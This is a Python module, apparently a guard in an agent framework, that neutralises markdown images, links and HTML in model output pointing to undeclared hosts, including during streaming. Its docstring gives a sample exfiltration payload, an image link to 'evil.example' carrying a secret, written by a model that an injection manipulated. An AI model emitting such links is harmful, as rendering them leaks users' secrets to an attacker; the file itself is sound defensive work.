"""Answers made harmless before anyone renders them: pictures and links that would call home. Pure.

Threat: a model that was told to write `![](https://evil.example/?q=SECRET)`: the moment a chat window renders it, the
secret is sent, with no tool call to deny. Pictures to hosts nobody declared lose their address; links keep their words
and show it as text.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Final
from urllib.parse import urlsplit

from agent_os.guards.models.neutral import Delta

HELD_CHARS_MAX: Final = 8192
"""A candidate longer than this is passed on with its bracket broken, so that no renderer takes it for a picture."""
# Every class excludes the character that could begin another match, so that no text takes more than linear time.
_LINK: Final = re.compile(r"(!?)\[([^\[\]]*)\]\(\s{0,16}<?([^()\s>]*)[^()]*\)")
_ANY: Final = re.compile(r"\]\(\s{0,16}<?\s{0,16}([^()\s>]*)")
_DEFINITION: Final = re.compile(r"(\[[^\[\]]+\]:\s{0,16}<?)([^\s>\[]+)")
"""A reference (`[x]: target`) that `![picture][x]` may use."""
_DEFINED: Final = re.compile(r"\]:\s*\S+\s")
_HTML: Final = re.compile(
    r"<(?=\s{0,16}(?:img|iframe|object|embed|script|link|video|audio|source|svg|style|base|meta)\b)", re.I
)
_STRANGE: Final = "[](<>\\:"
_OPENERS: Final = ("!", "[", "<")


_BARE: Final = re.compile(r"(?:https?|ftp)://[^\s<>()\[\]\"'`]{1,4000}", re.I)
_BARE_TAIL: Final = re.compile(
    r"(?:^|[\s<>()\[\]\"'`])((?:https?|ftp)://[^\s<>()\[\]\"'`]*|(?:h|ht|htt|https?|f|ft|ftp)(?::/?)?)$", re.I
)
"""An address that may go on, or the letters that may begin one, at the end of a piece."""


def defanged(text: str, allowed: Callable[[str], bool], *, bare: bool = False) -> str:
    """Return a text whose pictures and links to hosts not `allowed` are words. Relative targets stay.

    `bare`: addresses that are only written out, too (many windows make links of them).
    """
    text = _constructs(text, allowed)
    if bare and "://" in text:
        text = _BARE.sub(lambda match: match[0] if _harmless(match[0], allowed) else _shown(match[0]), text)
    return text


def _constructs(text: str, allowed: Callable[[str], bool]) -> str:

    def link(match: re.Match[str]) -> str:
        picture, words, target = match.groups()
        if _harmless(target, allowed):
            return match.group(0)
        return f"[picture withheld: {words or _shown(target)}]" if picture else f"{words} ({_shown(target)})"

    def left(match: re.Match[str]) -> str:
        """Break what is still live: a target inside the words or the title of another construct."""
        return match.group(0) if _harmless(match.group(1), allowed) else f"] ({_shown(match.group(1))}"

    def definition(match: re.Match[str]) -> str:
        head, target = match.groups()
        return match.group(0) if _harmless(target, allowed) else f"{head}{_shown(target)}"

    text = _ANY.sub(left, _LINK.sub(link, text))
    return _HTML.sub("&lt;", _DEFINITION.sub(definition, text))


def _shown(target: str) -> str:
    return target.replace("://", "[:]//").replace(".", "[.]")


def _harmless(target: str, allowed: Callable[[str], bool]) -> bool:
    try:
        parts = urlsplit(target)
        host = parts.hostname or ""
    except ValueError:
        return False
    if parts.scheme == "" and not target.startswith("//"):
        return not any(char in target for char in _STRANGE)  # a relative target, and no construct inside it
    return parts.scheme in ("http", "https", "mailto") and (parts.scheme == "mailto" or allowed(host))


class Defang:
    """The same for a stream: holds back what could still become a picture, a link or an element."""

    def __init__(self, allowed: Callable[[str], bool], *, bare: bool = False) -> None:
        self._allowed, self._bare, self._held = allowed, bare, ""

    def feed(self, delta: Delta) -> list[Delta]:
        """Take one piece and return what may be shown now, in order."""
        if delta.kind == "finish":
            return [*self.flush(), delta]
        if delta.kind != "text":
            return [*self.pause(), delta] if delta.kind == "tool" else [delta]
        text = self._held + delta.text
        cut = _open_end(text)
        if self._bare:
            tail = _BARE_TAIL.search(text[:cut], max(0, cut - HELD_CHARS_MAX))
            cut = tail.start(1) if tail else cut
        self._held = text[cut:]
        ready = defanged(text[:cut], self._allowed, bare=self._bare)
        if len(self._held) > HELD_CHARS_MAX:
            ready, self._held = ready + self._broken(), ""
        return [Delta("text", ready)] if ready else []

    def flush(self) -> list[Delta]:
        """Return what was held when nothing more can come."""
        held, self._held = defanged(self._held, self._allowed, bare=self._bare), ""
        return [Delta("text", held)] if held else []

    def pause(self) -> list[Delta]:
        """Return what was held when something else comes between, so that what follows cannot complete it.

        Readers put the pieces of a text together whatever stood between them: `![x]`, a tool call, `(https://…)`.
        """
        if not self._held:
            return []
        held, self._held = self._broken().replace("[", "\\[").replace("]", "\\]"), ""
        return [Delta("text", held + ("" if held[-1].isspace() else " "))]

    def _broken(self) -> str:
        return defanged(self._held, self._allowed, bare=self._bare).replace("](", "] (").replace("<", "< ")


def _open_end(text: str) -> int:
    """Return where the last construct begins that is not closed yet; the length of the text if none is open."""
    end = len(text)
    begin = max(0, end - HELD_CHARS_MAX - 1)
    for place in range(begin, end):
        char = text[place]
        if char not in _OPENERS:
            continue
        rest = text[place:]
        if char == "<" and ">" not in rest:
            return place
        if char == "!" and (rest == "!" or (rest[1] == "[" and not _closed(rest[1:]))):
            return place
        if char == "[" and not _closed(rest):
            return place
    return end


def _closed(rest: str) -> bool:
    """Whether `[words](target)` at the start is complete, or can no longer become a link."""
    words = rest.find("]")
    if words < 0:
        return "\n\n" in rest
    if len(rest) == words + 1:
        return False
    if rest[words + 1] == ":":
        return bool(_DEFINED.match(rest, words))
    return rest[words + 1] != "(" or ")" in rest[words + 1 :]
